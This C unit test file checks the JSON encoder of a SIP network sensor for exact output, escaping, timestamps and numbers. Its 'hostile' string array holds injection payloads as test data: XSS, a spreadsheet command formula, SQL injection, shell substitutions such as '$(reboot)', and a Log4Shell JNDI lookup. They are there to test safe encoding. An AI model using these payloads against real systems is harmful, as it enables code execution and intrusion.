/* JSON: exact bytes, nesting in one pass, and every hostile string comes back as what it was. */
#include "outputs_test.h"

#include "outputs/schema.h"

static struct encode_json *encoder;
static char out[ENCODE_JSON_BYTES_MAX];

static int open_encoder(void **state)
{
    const struct record_identity identity = {.observer = "edge \"1\"", .version = "0.1.0"};
    struct error error;
    (void)state;
    return encode_json_open(&identity, &encoder, &error) == STATUS_OK ? 0 : -1;
}

static int close_encoder(void **state)
{
    (void)state;
    encode_json_close(encoder);
    return 0;
}

static const char *encoded(const struct record *record, uint64_t created_ns)
{
    size_t bytes = encode_json(encoder, record, created_ns, out);
    out[bytes] = 0;
    return out;
}

#define HEAD(dataset, category, type)                                                              \
    "{\"@timestamp\":\"2026-11-20T09:15:02.113405Z\",\"ecs\":{\"version\":\"8.17.0\"},\"event\":{" \
    "\"kind\":\"event\","                                                                          \
    "\"category\":" category ",\"type\":" type ",\"module\":\"earshot\",\"dataset\":\"" dataset    \
    "\",\"id\":\"0123456789abcdeffedcba9876543210\",\"sequence\":42"
#define OBSERVER                                                                                   \
    "\"observer\":{\"name\":\"edge "                                                               \
    "\\\"1\\\"\",\"type\":\"sensor\",\"vendor\":\"earshot\",\"product\":\"earshot\","              \
    "\"version\":\"0.1.0\""

static void encodes_an_empty_record(void **state)
{
    static struct bench bench;
    (void)state;

    bench_begin(&bench, DATASET_CALL);
    assert_string_equal(encoded(bench_end(&bench), 0),
                        HEAD("earshot.call", "[\"network\",\"session\"]",
                             "[\"end\"]") "}," OBSERVER "},\"earshot\":{\"schema\":1}}");
}

static void nests_and_closes(void **state)
{
    static struct bench bench;
    struct record_maker *maker = bench_begin(&bench, DATASET_REGISTRATION);
    const uint8_t four[4] = {203, 0, 113, 66};
    const uint8_t other[4] = {192, 0, 2, 10};
    struct addr client = addr_from_v4(four);
    struct addr server = addr_from_v4(other);
    (void)state;

    record_string(maker, FIELD_ID_EVENT_TYPE, "start");
    record_string(maker, FIELD_ID_EVENT_ACTION, "registered");
    record_string(maker, FIELD_ID_OBSERVER_INGRESS_INTERFACE_NAME, "ens4");
    record_address(maker, FIELD_ID_SOURCE_IP, &client);
    record_long(maker, FIELD_ID_SOURCE_PORT, 5071);
    record_address(maker, FIELD_ID_DESTINATION_IP, &server);
    record_long(maker, FIELD_ID_DESTINATION_PORT, 5060);
    record_string(maker, FIELD_ID_NETWORK_TRANSPORT, "udp");
    record_string(maker, FIELD_ID_NETWORK_VLAN_ID, "100");
    record_string(maker, FIELD_ID_SIP_FROM_URI_USERNAME, "2001");
    record_string(maker, FIELD_ID_SIP_FROM_TAG, "b1");
    record_string(maker, FIELD_ID_SIP_TO_TAG, "as9");
    record_string(maker, FIELD_ID_RELATED_USER, "2001");
    record_decimal(maker, FIELD_ID_EARSHOT_CALL_PDD_MS, 812400);
    record_decimal(maker, FIELD_ID_EARSHOT_CALL_RING_MS, 0);
    record_decimal(maker, FIELD_ID_EARSHOT_CALL_MEDIA_MOS_MIN, -1005);
    record_bool(maker, FIELD_ID_EARSHOT_CALL_COMPLETE_INVITE, true);
    record_bool(maker, FIELD_ID_EARSHOT_CALL_COMPLETE_BYE, false);
    record_count(maker, FIELD_ID_EARSHOT_SENSOR_SIP_RESPONSES, SLICE("200"), 7);
    record_count(maker, FIELD_ID_EARSHOT_SENSOR_SIP_RESPONSES, SLICE("486"),
                 UINT64_C(9007199254740991));
    record_count(maker, FIELD_ID_EARSHOT_SENSOR_SIP_ANOMALIES, SLICE("no-eom"), 1);
    assert_string_equal(encoded(bench_end(&bench), 0),
                        HEAD("earshot.registration", "[\"authentication\"]",
                             "[\"start\"]") ",\"action\":\"registered\"}," OBSERVER
                                            ",\"ingress\":{\"interface\":{\"name\":\"ens4\"}}},"
                                            "\"source\":{\"ip\":\"203.0.113.66\",\"port\":5071},"
                                            "\"destination\":{\"ip\":\"192.0.2.10\",\"port\":5060},"
                                            "\"network\":{\"transport\":\"udp\",\"community_id\":"
                                            "\"1:CaJkKuMwkV32eXTE4PvspzeqmMk=\","
                                            "\"vlan\":{\"id\":\"100\"}},\"sip\":{\"from\":{\"uri\":"
                                            "{\"username\":\"2001\"},\"tag\":\"b1\"},"
                                            "\"to\":{\"tag\":\"as9\"}},\"related\":{\"user\":["
                                            "\"2001\"]},\"earshot\":{\"schema\":1,\"call\":{"
                                            "\"pdd_ms\":812.4,\"ring_ms\":0.0,\"media\":{\"mos_"
                                            "min\":-1.005},\"complete\":{\"invite\":true,"
                                            "\"bye\":false}},\"sensor\":{\"sip\":{\"responses\":{"
                                            "\"200\":7,\"486\":9007199254740991},"
                                            "\"anomalies\":{\"no-eom\":1}}}}}");
}

static void lists_are_arrays_also_with_one_value(void **state)
{
    static struct bench bench;
    struct record_maker *maker = bench_begin(&bench, DATASET_SIP);
    const struct record_member members[] = {
        {.name = "type", .type = MEMBER_TEXT, .text = SLICE("audio")},
        {.name = "port", .type = MEMBER_NUMBER, .number = 4000},
        {.name = "payloads", .type = MEMBER_WORDS, .text = SLICE("0 8")},
        {.name = "mux", .type = MEMBER_BOOL, .number = 0},
    };
    (void)state;

    record_string(maker, FIELD_ID_EVENT_CATEGORY, "network");
    record_string(maker, FIELD_ID_EVENT_CATEGORY, "authentication");
    record_string(maker, FIELD_ID_EVENT_ACTION, "sip-invite");
    record_string(maker, FIELD_ID_SIP_ALLOW, "ACK");
    record_string(maker, FIELD_ID_SIP_SUPPORTED, "100rel");
    record_string(maker, FIELD_ID_SIP_SUPPORTED, "timer");
    record_object(maker, FIELD_ID_EARSHOT_SDP_MEDIA, members, 4);
    record_object(maker, FIELD_ID_EARSHOT_SDP_MEDIA, members, 1);
    record_long(maker, FIELD_ID_EARSHOT_TRANSACTION_PROVISIONAL, 100);
    assert_string_equal(
        encoded(bench_end(&bench), AT_NS + 1000),
        HEAD("earshot.sip", "[\"network\",\"authentication\"]",
             "[\"protocol\",\"info\"]") ",\"created\":\"2026-11-20T09:15:02.113406Z\",\"action\":"
                                        "\"sip-invite\"}," OBSERVER
                                        "},\"sip\":{\"allow\":[\"ACK\"],\"supported\":[\"100rel\","
                                        "\"timer\"]},\"earshot\":{"
                                        "\"schema\":1,\"sdp\":{\"media\":[{\"type\":\"audio\","
                                        "\"port\":4000,\"payloads\":[\"0\","
                                        "\"8\"],\"mux\":false},{\"type\":\"audio\"}]},"
                                        "\"transaction\":{\"provisional\":[100]}}}");
}

static void prints_times_over_days(void **state)
{
    static const struct {
        uint64_t ns;
        const char *text;
    } rows[] = {
        {0, "1970-01-01T00:00:00.000000Z"},
        {999, "1970-01-01T00:00:00.000000Z"},
        {UINT64_C(86399999999999), "1970-01-01T23:59:59.999999Z"},
        {UINT64_C(86400000000000), "1970-01-02T00:00:00.000000Z"},
        {UINT64_C(1709164800000001000), "2024-02-29T00:00:00.000001Z"},
        {UINT64_C(1709251199999999999), "2024-02-29T23:59:59.999999Z"},
        {UINT64_C(1709251200000000000), "2024-03-01T00:00:00.000000Z"},
        {UINT64_MAX, "2554-07-21T23:34:33.709551Z"},
    };
    static struct bench bench;
    (void)state;

    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        record_begin(&bench.maker, bench.memory, DATASET_SENSOR, rows[i].ns, 0);
        const char *text = encoded(bench_end(&bench), 0);
        assert_memory_equal(text + strlen("{\"@timestamp\":\""), rows[i].text,
                            strlen(rows[i].text));
    }
}

/* A record with a value in every field: nothing stands twice, all fits, and the schema knows it. */
static void put_every_field(struct record_maker *maker, struct slice text)
{
    const uint8_t six[16] = {0x20, 0x01, 0x0d, 0xb8, [15] = 1};
    struct addr addr = addr_from_v6(six);
    const struct record_member member = {.name = "type", .type = MEMBER_TEXT, .text = text};

    for (unsigned i = FIELD_ID_EVENT_ACTION; i < FIELD_COUNT; i++) {
        const struct field_row *row = &field_rows[i];
        if (row->head || i == FIELD_ID_EARSHOT_TRUNCATED || i == FIELD_ID_TAGS) {
            continue;
        }
        for (unsigned k = 0; k < (row->list || row->type == FIELD_COUNTS ? 2U : 1U); k++) {
            char name[] = {'n', (char)('0' + k)};
            switch (row->type) {
            case FIELD_KEYWORD:
            case FIELD_TEXT:
                record_text(maker, (enum field)i, text);
                break;
            case FIELD_ADDRESS:
                record_address(maker, (enum field)i, &addr);
                break;
            case FIELD_LONG:
                record_long(maker, (enum field)i, 1);
                break;
            case FIELD_DECIMAL:
                record_decimal(maker, (enum field)i, 1);
                break;
            case FIELD_BOOL:
                record_bool(maker, (enum field)i, true);
                break;
            case FIELD_DATE:
                record_date(maker, (enum field)i, AT_NS);
                break;
            case FIELD_COUNTS:
                record_count(maker, (enum field)i, slice_of(name, sizeof name), k);
                break;
            case FIELD_OBJECTS:
                record_object(maker, (enum field)i, &member, 1);
                break;
            case FIELD_HASH:
                record_hash(maker, (enum field)i, (struct hash128){.high = 1});
                break;
            }
        }
    }
}

static void full_records_are_valid(void **state)
{
    static struct bench bench;
    char schema[] = "/tmp/earshot-schema-XXXXXX";
    char records[] = "/tmp/earshot-records-XXXXXX";
    char command[256];
    char hostile[RECORD_TEXT_MAX];
    (void)state;

    FILE *file = fdopen(mkstemp(schema), "w");
    assert_non_null(file);
    schema_print(file);
    (void)fclose(file);
    file = fdopen(mkstemp(records), "w");
    assert_non_null(file);
    memset(hostile, 1, sizeof hostile); /* the longest that a byte can become: \u0001 */
    for (unsigned i = 0; i < DATASET_COUNT; i++) {
        put_every_field(bench_begin(&bench, (enum dataset)i), SLICE("x"));
        (void)fprintf(file, "%s\n", encoded(bench_end(&bench), AT_NS));
        put_every_field(bench_begin(&bench, (enum dataset)i), slice_of(hostile, sizeof hostile));
        (void)fprintf(file, "%s\n", encoded(bench_end(&bench), AT_NS));
    }
    (void)fclose(file);
    (void)snprintf(command, sizeof command, "python3 tests/check/validate_records.py %s %s", schema,
                   records);
    int status = shell(command);
    (void)unlink(schema);
    (void)unlink(records);
    if (status == 77) {
        skip();
    }
    assert_int_equal(status, 0);
}

/* As long as a record can be, in the form that grows most. */
static void the_largest_record_fits(void **state)
{
    static struct bench bench;
    struct record_maker *maker = bench_begin(&bench, DATASET_SIP);
    char text[RECORD_TEXT_MAX];
    (void)state;

    memset(text, 0x7f, sizeof text);
    while (!maker->overflow) {
        record_text(maker, FIELD_ID_SIP_VIA_ORIGINAL, slice_of(text, sizeof text));
    }
    size_t bytes = encode_json(encoder, bench_end(&bench), AT_NS, out);
    assert_in_range(bytes, 300 << 10, ENCODE_JSON_BYTES_MAX);

    maker = bench_begin(&bench, DATASET_SIP);
    while (!maker->overflow) {
        record_string(maker, FIELD_ID_SIP_VIA_ORIGINAL, "\x01");
    }
    assert_in_range(encode_json(encoder, bench_end(&bench), 0, out), 30 << 10,
                    ENCODE_JSON_BYTES_MAX);
}

static const char *const hostile[] = {
    "plain",
    "",
    "\"",
    "\\",
    "\"\\\"",
    "/",
    "</script><script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1)",
    "' OR 1=1 --",
    "%00",
    "%n%n%s",
    "$(reboot)",
    "`id`",
    "${jndi:ldap://203.0.113.1/a}",
    "{\"@timestamp\":\"x\"}",
    "null",
    "true",
    "1e999",
    "\\u0000",
    "\\xFF",
    "\\",
    "\x01",
    "\x02\x03",
    "\x07",
    "\b",
    "\t",
    "\n",
    "\r\n",
    "a\nb",
    "\f",
    "\x1b[2J",
    "\x1b]0;title\x07",
    "\x1f",
    "\x7f",
    "\xc2\x80",
    "\xc2\x85",
    "\xc2\x9f",
    "\xc2\xa0",
    "\x80",
    "\xff",
    "\xfe\xff",
    "\xc0\x80",
    "\xc1\xbf",
    "\xe0\x80\x80",
    "\xed\xa0\x80",
    "\xed\xbf\xbf",
    "\xf4\x90\x80\x80",
    "\xf5\x80\x80\x80",
    "\xf8\x88\x80\x80\x80",
    "\xc3",
    "\xe2\x82",
    "\xf0\x9f\x98",
    "a\xc3",
    "\xc3\x28",
    "\xe2\x28\xa1",
    "\xe2\x80\xa8",
    "\xe2\x80\xa9",
    "\xe2\x80\xae"
    "gpj.exe",
    "\xe2\x81\xa6x\xe2\x81\xa9",
    "\xe2\x82\xac",
    "\xf0\x9f\x98\x80",
    "\xef\xbb\xbf"
    "bom",
    "\xef\xbf\xbf",
    "\xef\xbf\xbd",
    "\xf4\x8f\xbf\xbf",
    "caf\xc3\xa9",
    "caf\xe9",
    "1234567\"",
    "12345678\"",
    "123456789\"",
    "1234567\x80",
    "12345678\x80",
    "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d",
    "\xe4\xb8\xad\xe6\x96\x87",
    "null\xe2\x80\x8bwidth",
};

static void hostile_strings_come_back(void **state)
{
    static struct bench bench;
    char nul[] = {'a', 0, 'b'};
    FILE *pipe = popen("python3 tests/check/parse_back.py", "w");
    (void)state;

    assert_non_null(pipe);
    for (size_t i = 0; i <= sizeof hostile / sizeof hostile[0]; i++) {
        struct slice text = i == sizeof hostile / sizeof hostile[0] ? slice_of(nul, sizeof nul)
                                                                    : slice_of_string(hostile[i]);
        record_text(bench_begin(&bench, DATASET_ALERT), FIELD_ID_MESSAGE, text);
        const char *json = encoded(bench_end(&bench), 0);
        for (size_t at = 0; at < text.bytes; at++) {
            (void)fprintf(pipe, "%02x", (unsigned)(uint8_t)text.at[at]);
        }
        (void)fprintf(pipe, "\t%s\n", json);
    }
    assert_int_equal(pclose(pipe), 0);
}

/* Texts are taken in steps: one odd byte at each place of each length, against the slow way. */
static void odd_bytes_are_found_everywhere(void **state)
{
    static const char odd[] = {'"', '\\', 0x1f, 0x7f, (char)0xe9, '\0'};
    static struct bench bench;
    char raw[40];
    char expected[300];
    (void)state;

    for (size_t bytes = 1; bytes <= sizeof raw; bytes++) {
        for (size_t place = 0; place <= bytes; place++) {
            for (size_t i = 0; i < sizeof odd; i++) {
                memset(raw, 'x', sizeof raw);
                if (place < bytes) {
                    raw[place] = odd[i];
                }
                struct text text = text_into(expected, sizeof expected);
                text_string(&text, "\"message\":\"");
                (void)text_json(&text, slice_of(raw, bytes));
                text_string(&text, "\",");
                (void)text_terminate(&text);
                record_text(bench_begin(&bench, DATASET_ALERT), FIELD_ID_MESSAGE,
                            slice_of(raw, bytes));
                assert_non_null(strstr(encoded(bench_end(&bench), 0), expected));
            }
        }
    }
}

static void prints_numbers_of_every_length(void **state)
{
    static struct bench bench;
    char expected[64];
    (void)state;

    for (uint64_t power = 1; power != 0; power = power <= UINT64_MAX / 10 ? power * 10 : 0) {
        const int64_t values[] = {(int64_t)power, (int64_t)(power - 1), -(int64_t)(power / 2)};
        for (size_t i = 0; i < sizeof values / sizeof values[0]; i++) {
            record_long(bench_begin(&bench, DATASET_CALL), FIELD_ID_SOURCE_PORT, values[i]);
            (void)snprintf(expected, sizeof expected, "\"port\":%" PRId64 "}", values[i]);
            assert_non_null(strstr(encoded(bench_end(&bench), 0), expected));
        }
    }
}

static void prints_every_octet(void **state)
{
    static struct bench bench;
    char expected[64];
    (void)state;

    for (unsigned octet = 0; octet < 256; octet++) {
        const uint8_t four[4] = {(uint8_t)octet, 1, (uint8_t)(255 - octet), (uint8_t)octet};
        struct addr addr = addr_from_v4(four);
        record_address(bench_begin(&bench, DATASET_CALL), FIELD_ID_SOURCE_IP, &addr);
        (void)snprintf(expected, sizeof expected, "\"ip\":\"%u.1.%u.%u\"", octet, 255 - octet,
                       octet);
        assert_non_null(strstr(encoded(bench_end(&bench), 0), expected));
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(encodes_an_empty_record),
        cmocka_unit_test(nests_and_closes),
        cmocka_unit_test(lists_are_arrays_also_with_one_value),
        cmocka_unit_test(prints_times_over_days),
        cmocka_unit_test(full_records_are_valid),
        cmocka_unit_test(the_largest_record_fits),
        cmocka_unit_test(hostile_strings_come_back),
        cmocka_unit_test(odd_bytes_are_found_everywhere),
        cmocka_unit_test(prints_numbers_of_every_length),
        cmocka_unit_test(prints_every_octet),
    };
    return cmocka_run_group_tests(tests, open_encoder, close_encoder);
}
